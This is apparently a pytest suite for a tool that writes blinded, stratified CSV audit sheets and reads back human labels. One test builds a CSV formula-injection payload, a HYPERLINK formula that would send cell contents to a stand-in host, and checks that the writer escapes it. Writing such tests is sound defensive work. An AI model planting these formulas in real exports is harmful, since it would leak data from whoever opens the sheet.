"""The blinded sheet: what it draws, what it hides, and that a filled one is read."""

import csv
import json
from dataclasses import replace
from pathlib import Path

import pytest

from probes.audit.sheet import COLUMNS, LABELS, Sheet, read_key, read_labels, sample, write_sheet
from scoring.run import load_run
from simulator.events.errors import InputError


def drawn(folder: Path, n: int, seed: int = 0) -> Sheet:
    with load_run(folder) as run:
        return sample(run, n, seed)


def test_every_verdict_has_its_share(run_folder: Path) -> None:
    sheet = drawn(run_folder, 9)
    assert all(n >= 3 for n in sheet.population.values())
    assert sheet.sampled == {"pass": 3, "violation": 3, "fail": 3}


def test_a_small_stratum_gives_all_and_leaves_its_share_to_the_others(run_folder: Path) -> None:
    population = drawn(run_folder, 1).population
    smallest = min(population, key=lambda label: population[label])
    n = 3 * population[smallest] + 2
    sheet = drawn(run_folder, n)
    assert len(sheet.rows) == n
    assert sheet.sampled[smallest] == population[smallest]
    everything = drawn(run_folder, 10_000)
    assert everything.sampled == dict(population)


def test_the_seed_draws(run_folder: Path) -> None:
    ids = [row.id for row in drawn(run_folder, 6).rows]
    assert ids == [row.id for row in drawn(run_folder, 6).rows] == sorted(ids)
    assert set(ids).isdisjoint(row.id for row in drawn(run_folder, 6, seed=1).rows)


def test_the_sheet_shows_neither_arm_nor_trial_nor_verdict(
    run_folder: Path, tmp_path: Path
) -> None:
    sheet = drawn(run_folder, 12)
    key = write_sheet(sheet, tmp_path / "sheet.csv")
    text = (tmp_path / "sheet.csv").read_text("utf-8")
    with load_run(run_folder) as run:
        assert run.manifest.arms
        for hidden in (*run.manifest.arms, *run.sealed):
            assert hidden not in text
    with (tmp_path / "sheet.csv").open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert tuple(rows[0]) == COLUMNS
    assert [row["id"] for row in rows] == [row.id for row in sheet.rows]
    assert {row["label"] for row in rows} == {""}
    assert all(row["request"] and row["checks"] for row in rows)
    assert key == tmp_path / "sheet.key.json"
    kept = read_key(key)
    assert {row.id: row.label for row in sheet.rows} == read_labels(key)
    for row in sheet.rows:
        assert (kept[row.id]["trial"], kept[row.id]["probe"]) == (row.trial, row.probe.id)


@pytest.mark.parametrize("mark", ["=", "+", "-", "@", "\t", "\r"])
def test_no_cell_is_a_formula(run_folder: Path, tmp_path: Path, mark: str) -> None:
    """Who judges opens the sheet in a program that would run it."""
    sheet = drawn(run_folder, 2)
    evil = f'{mark}HYPERLINK("http://x?"&A1)'
    first = replace(sheet.rows[0], record=replace(sheet.rows[0].record, text=evil, request=evil))
    write_sheet(replace(sheet, rows=(first, *sheet.rows[1:])), tmp_path / "s.csv")
    with (tmp_path / "s.csv").open(newline="") as file:
        cells = next(csv.DictReader(file))
    assert cells["text"] == cells["request"] == f"'{evil}"
    assert all(not text.startswith(("=", "+", "-", "@", "\t", "\r")) for text in cells.values())


def test_weights_bring_the_sample_back_to_the_run(run_folder: Path, tmp_path: Path) -> None:
    sheet = drawn(run_folder, 9)
    rows = read_key(write_sheet(sheet, tmp_path / "s.csv")).values()
    for label in LABELS:
        weights = [row["weight"] for row in rows if row["label"] == label]
        assert sum(weights) == pytest.approx(sheet.population[label])


def test_nothing_is_overwritten(run_folder: Path, tmp_path: Path) -> None:
    sheet = drawn(run_folder, 3)
    write_sheet(sheet, tmp_path / "s.csv")
    with pytest.raises(InputError, match="there already"):
        write_sheet(sheet, tmp_path / "s.csv")
    (tmp_path / "s.csv").unlink()
    with pytest.raises(InputError, match="there already"):  # never a sheet without its key
        write_sheet(sheet, tmp_path / "s.csv")
    assert not (tmp_path / "s.csv").exists()
    with pytest.raises(InputError, match="cannot be written"):
        write_sheet(sheet, tmp_path / "missing" / "s.csv")


def fill(path: Path, *rows: tuple[str, str]) -> Path:
    lines = ["id,label", *(",".join(row) for row in rows)]
    path.write_text("\n".join(lines), "utf-8")
    return path


def test_labels_are_read_whatever_their_case_and_empty_ones_left_out(tmp_path: Path) -> None:
    path = fill(tmp_path / "a.csv", ("1", "Pass"), ("2", " fail "), ("3", ""))
    assert read_labels(path) == {"1": "pass", "2": "fail"}
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())  # as spreadsheets save it
    assert read_labels(path) == {"1": "pass", "2": "fail"}


def test_a_wrong_sheet_is_refused(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="write one of pass, violation, fail") as caught:
        read_labels(fill(tmp_path / "a.csv", ("1", "pass"), ("2", "good")))
    assert (caught.value.line, caught.value.field) == (3, "label")
    with pytest.raises(InputError, match="stands twice"):
        read_labels(fill(tmp_path / "a.csv", ("1", "pass"), ("1", "fail")))
    (tmp_path / "b.csv").write_text("id,verdict\n1,pass\n")
    with pytest.raises(InputError, match="no column 'label'"):
        read_labels(tmp_path / "b.csv")
    with pytest.raises(InputError, match="cannot be read"):
        read_labels(tmp_path / "missing.csv")
    for text in ("{", "[]", '{"rows": {"1": {"label": "good"}}}', json.dumps({"rows": [1]})):
        (tmp_path / "k.json").write_text(text)
        with pytest.raises(InputError, match="no key"):
            read_labels(tmp_path / "k.json")
